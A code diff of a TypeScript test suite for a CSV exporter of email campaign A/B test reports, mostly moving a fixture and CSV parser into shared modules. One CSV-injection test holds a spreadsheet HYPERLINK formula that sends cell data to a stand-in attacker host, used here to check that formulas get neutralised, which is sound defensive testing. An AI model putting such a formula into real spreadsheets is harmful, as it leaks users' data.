@@ -1,187 +1,7 @@
-import { plainDecimal, programReportCsv, REPORT_CSV_COLUMNS } from './report-csv';
-import type { ProgramReport } from './report-types';
-
-function reportFixture(): ProgramReport {
-  return {
-    program: {
-      id: '0b7f1c2e-5d3a-4c1b-9e8f-2a6d4c3b1a00',
-      code: 'SPRING25',
-      name: 'Spring sale 2025',
-      channel: 'email',
-      state: 'completed',
-      launchedAt: '2025-03-03T08:00:00.000Z',
-      attributionWindowDays: 14,
-    },
-    confidence: 0.95,
-    currency: 'EUR',
-    generatedAt: '2025-03-24T06:30:12.000Z',
-    waterfall: [
-      { step: 'select', remaining: 26140, removed: 0 },
-      { step: 'no address', remaining: 25210, removed: 930 },
-      { step: 'no consent', remaining: 23480, removed: 1730 },
-      { step: 'dedupe', remaining: 23301, removed: 179 },
-      { step: 'unsubscribed', remaining: 22540, removed: 761 },
-      { step: 'frequency cap', remaining: 22000, removed: 540 },
-      { step: 'sample', remaining: 22000, removed: 0 },
-      { step: 'split', remaining: 22000, removed: 0 },
-    ],
-    cells: [
-      {
-        code: 'A',
-        name: '20% off banner',
-        isControl: false,
-        responseCode: 'SPR-A',
-        members: 10000,
-        contacted: 10000,
-        delivered: 9800,
-        bounced: 200,
-        opens: 4200,
-        opensHuman: 3100,
-        clicks: 620,
-        clicksHuman: 540,
-        unsubscribes: 35,
-        complaints: 2,
-        conversions: 310,
-        conversionEvents: 345,
-        revenue: 1534500,
-        revenuePerMember: 153.45,
-        conversionRate: 0.031,
-        conversionRateCi: [0.0278, 0.0345],
-        openRate: 0.3163,
-        openRateCi: [0.3071, 0.3256],
-        clickRate: 0.0551,
-        clickRateCi: [0.0507, 0.0598],
-      },
-      {
-        code: 'B',
-        name: 'Free shipping',
-        isControl: false,
-        responseCode: 'SPR-B',
-        members: 10000,
-        contacted: 10000,
-        delivered: 9790,
-        bounced: 210,
-        opens: 4100,
-        opensHuman: 2950,
-        clicks: 480,
-        clicksHuman: 410,
-        unsubscribes: 41,
-        complaints: 1,
-        conversions: 215,
-        conversionEvents: 230,
-        revenue: 1011250,
-        revenuePerMember: 101.125,
-        conversionRate: 0.0215,
-        conversionRateCi: [0.0188, 0.0245],
-        openRate: 0.3013,
-        openRateCi: [0.2923, 0.3105],
-        clickRate: 0.0419,
-        clickRateCi: [0.038, 0.0461],
-      },
-      {
-        code: 'CTRL',
-        name: 'Hold-out',
-        isControl: true,
-        responseCode: 'SPR-C',
-        members: 2000,
-        contacted: 0,
-        delivered: 0,
-        bounced: 0,
-        opens: 0,
-        opensHuman: 0,
-        clicks: 0,
-        clicksHuman: 0,
-        unsubscribes: 0,
-        complaints: 0,
-        conversions: 48,
-        conversionEvents: 50,
-        revenue: 230000,
-        revenuePerMember: 115,
-        conversionRate: 0.024,
-        conversionRateCi: [0.0181, 0.0317],
-        openRate: null,
-        openRateCi: null,
-        clickRate: null,
-        clickRateCi: null,
-      },
-    ],
-    comparisons: [
-      {
-        cell: 'A',
-        against: 'CTRL',
-        metric: 'conversionRate',
-        absoluteLift: 0.007,
-        relativeLift: 0.2916666666666667,
-        ci: [0.0001, 0.0139],
-        relativeCi: [0.004, 0.58],
-        pValue: 0.0000003,
-        adjustedPValue: 0.0000006,
-        significant: true,
-        test: 'two-proportion z',
-        smallSample: false,
-      },
-      {
-        cell: 'B',
-        against: 'CTRL',
-        metric: 'conversionRate',
-        absoluteLift: -0.0025,
-        relativeLift: -0.10416666666666667,
-        ci: [-0.0098, 0.0048],
-        relativeCi: null,
-        pValue: 0.4983,
-        adjustedPValue: 0.4983,
-        significant: false,
-        test: 'two-proportion z',
-        smallSample: false,
-      },
-    ],
-    overall: { test: 'chi-square', statistic: 19.87, df: 2, pValue: 0.0000485, smallSample: false },
-    verdict:
-      'Cell A converts better than the control: +0.70 points (95% interval +0.01 to +1.39), p < 0.001 after Holm.',
-  };
-}
-
-/** A minimal RFC 4180 parser (quoted fields, doubled quotes, CRLF records) to read the output back. */
-function parse(csv: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < csv.length; i++) {
-    const ch = csv[i];
-    if (quoted) {
-      if (ch === '"' && csv[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (ch === '"') {
-        quoted = false;
-      } else {
-        field += ch;
-      }
-    } else if (ch === '"') {
-      quoted = true;
-    } else if (ch === ',') {
-      row.push(field);
-      field = '';
-    } else if (ch === '\r' && csv[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else {
-      field += ch;
-    }
-  }
-  expect(field).toBe('');
-  expect(row).toEqual([]);
-  return rows;
-}
-
-function records(csv: string): Record<string, string>[] {
-  const [header, ...rows] = parse(csv);
-  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
-}
+import { plainDecimal } from './csv-kit';
+import { programReportCsv, REPORT_CSV_COLUMNS } from './report-csv';
+import { csvRecords, parseCsv } from './testing/csv-parse';
+import { reportFixture } from './testing/report-fixture';
 
 describe('programReportCsv', () => {
   it('writes a header, one row per cell then one per comparison, CRLF-terminated', () => {
@@ -196,13 +16,13 @@ describe('programReportCsv', () => {
         'conversionRateHigh,openRate,clickRate,cell,against,metric,absoluteLift,relativeLift,ciLow,ciHigh,pValue,' +
         'adjustedPValue,significant,test,smallSample',
     );
-    const rows = parse(csv);
+    const rows = parseCsv(csv);
     for (const r of rows) expect(r).toHaveLength(REPORT_CSV_COLUMNS.length);
     expect(rows.slice(1).map((r) => r[0])).toEqual(['cell', 'cell', 'cell', 'comparison', 'comparison']);
   });
 
   it('gives the exact figures of cells and comparisons', () => {
-    const [a, b, ctrl, vsA, vsB] = records(programReportCsv(reportFixture()));
+    const [a, b, ctrl, vsA, vsB] = csvRecords(programReportCsv(reportFixture()));
     expect(a).toMatchObject({
       code: 'A',
       name: '20% off banner',
@@ -245,7 +65,7 @@ describe('programReportCsv', () => {
 
   it('keeps negative numbers numeric (no apostrophe) and never uses exponents', () => {
     const csv = programReportCsv(reportFixture());
-    const vsB = records(csv)[4];
+    const vsB = csvRecords(csv)[4];
     expect(vsB.absoluteLift).toBe('-0.0025');
     expect(vsB.relativeLift).toBe('-0.10416666666666667');
     expect(vsB.ciLow).toBe('-0.0098');
@@ -263,7 +83,7 @@ describe('programReportCsv', () => {
       adjustedPValue: null,
       smallSample: true,
     };
-    const [, , ctrl, , vsB] = records(programReportCsv(report));
+    const [, , ctrl, , vsB] = csvRecords(programReportCsv(report));
     expect(ctrl.openRate).toBe('');
     expect(ctrl.clickRate).toBe('');
     expect(vsB).toMatchObject({ relativeLift: '', pValue: '', adjustedPValue: '', smallSample: 'true' });
@@ -278,7 +98,7 @@ describe('programReportCsv', () => {
     report.comparisons[1].test = '-z';
     const csv = programReportCsv(report);
     expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")",`);
-    const [, b, ctrl, , vsB] = records(csv);
+    const [, b, ctrl, , vsB] = csvRecords(csv);
     expect(b.name).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"Open")`);
     expect(b.responseCode).toBe("'+SPR-B");
     expect(ctrl.code).toBe("'@ctrl");
@@ -290,7 +110,7 @@ describe('programReportCsv', () => {
   it('quotes text with commas, quotes and line breaks', () => {
     const report = reportFixture();
     report.cells[0].name = 'Big, "bold"\r\nbanner';
-    const [a] = records(programReportCsv(report));
+    const [a] = csvRecords(programReportCsv(report));
     expect(a.name).toBe('Big, "bold"\r\nbanner');
   });
 
